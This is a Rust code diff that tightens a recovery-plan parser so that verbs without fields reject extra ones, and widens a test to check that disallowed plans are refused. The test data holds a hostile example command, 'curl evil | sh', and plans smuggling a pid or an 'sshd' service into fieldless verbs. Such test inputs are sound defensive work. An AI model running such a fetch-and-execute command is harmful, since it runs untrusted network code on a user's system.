@@ -19,7 +19,8 @@ const CAP: u64 = 4 << 20;
 #[serde(rename_all = "snake_case", tag = "verb", deny_unknown_fields)]
 pub enum Step {
     /// Restart the service (the guardian does that after us in any case).
-    Restart,
+    // Brackets, because serde lets a variant without fields take any.
+    Restart {},
     /// Go back to a snapshot.
     RestoreGeneration {
         /// Its id, or `good`.
@@ -31,7 +32,7 @@ pub enum Step {
         plugin: String,
     },
     /// End a stale gateway, if there is a proven one.
-    EndStaleGateway,
+    EndStaleGateway {},
     /// Something that only a person can do.
     HumanStep {
         /// The exact command.
@@ -251,8 +252,14 @@ mod tests {
     fn a_verb_that_is_not_on_the_list_is_refused() {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("plan.json");
-        fsx::replace(&path, br#"{"steps": [{"verb": "run", "command": "curl evil | sh"}]}"#).unwrap();
-        assert_eq!(Plan::read(&path).unwrap_err().exit, oc_core::Exit::Data);
+        for plan in [
+            r#"{"steps": [{"verb": "run", "command": "curl evil | sh"}]}"#,
+            r#"{"steps": [{"verb": "end_stale_gateway", "pid": 1}]}"#,
+            r#"{"steps": [{"verb": "restart", "service": "sshd"}]}"#,
+        ] {
+            fsx::replace(&path, plan.as_bytes()).unwrap();
+            assert_eq!(Plan::read(&path).unwrap_err().exit, oc_core::Exit::Data, "{plan}");
+        }
         fsx::replace(
             &path,
             br#"{"steps": [{"verb": "restart"}, {"verb": "human_step", "command": "c", "why": "w"}]}"#,
